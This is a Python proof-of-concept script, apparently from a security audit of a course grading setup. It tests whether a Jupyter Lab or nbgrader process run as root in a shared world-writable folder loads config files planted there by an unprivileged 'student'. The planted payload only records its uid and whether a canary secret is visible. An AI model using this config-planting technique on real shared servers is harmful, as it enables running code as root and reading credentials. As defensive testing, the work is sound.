"""a15: a11 for the TA's Jupyter server: `jupyter lab` (the course's venv) started in a shared writable folder (sticky
1777 stand-in for /tmp; round 40 names "a Jupyter server started elsewhere") holding a student's jupyter_server_config.py
/ jupyter_lab_config.py, and `jupyter nbgrader validate` from there. Is either loaded, as root?"""
import os, subprocess, sys, time, signal
d = "/tmp/attack44-root-a15"
subprocess.run(["rm", "-rf", d]); os.makedirs(d); os.chmod(d, 0o1777)
PAY = ("import os, json\\nopen(%r, 'a').write(json.dumps({'file': __file__, 'uid': os.getuid(), 'canary': 'AKIASECRET' in str(os.environ)}) + '\\\\n')\\n"
       % (d + "/PWNED.txt"))
STUDENT = f"""
import os
os.setgid(65534); os.setuid(65534)
for n in ('jupyter_server_config.py', 'jupyter_lab_config.py', 'jupyter_notebook_config.py', 'jupyter_config.py', 'nbgrader_config.py'):
    open(os.path.join({d!r}, n), 'w').write("{PAY}")
"""
subprocess.run([sys.executable, "-c", STUDENT], check=True)
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
p = subprocess.Popen(["CLONE/.venv/bin/jupyter", "lab", "--no-browser", "--allow-root", "--port", "8999"], cwd=d, env=env,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
time.sleep(12); os.killpg(p.pid, signal.SIGTERM); p.wait(timeout=30)
print("after jupyter lab:", open(d + "/PWNED.txt").read() if os.path.exists(d + "/PWNED.txt") else "nothing ran")
if os.path.exists(d + "/PWNED.txt"):
    os.remove(d + "/PWNED.txt")
r = subprocess.run(["CLONE/.venv/bin/jupyter", "nbgrader", "list"], cwd=d, env=env, capture_output=True, text=True, timeout=120)
print("after jupyter nbgrader list:", open(d + "/PWNED.txt").read() if os.path.exists(d + "/PWNED.txt") else "nothing ran")
